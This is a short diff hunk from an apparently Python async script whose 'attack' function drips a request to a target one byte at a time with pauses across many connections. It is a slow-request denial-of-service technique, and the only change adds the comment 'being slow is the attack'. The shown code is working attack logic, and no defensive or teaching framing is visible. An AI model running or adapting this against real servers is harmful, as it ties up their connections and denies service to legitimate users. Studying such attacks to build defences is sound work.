@@ -21,7 +21,7 @@ async def attack(target: Target, seconds: float) -> None:
             for place in range(len(half) - 1):
                 await line.send(half[place : place + 1])
                 target.seen["sent"] += 1
-                await asyncio.sleep(PAUSE)
+                await asyncio.sleep(PAUSE)  # being slow is the attack
             await line.reader.read()
 
     await repeat(CONNECTIONS, drip, seconds)
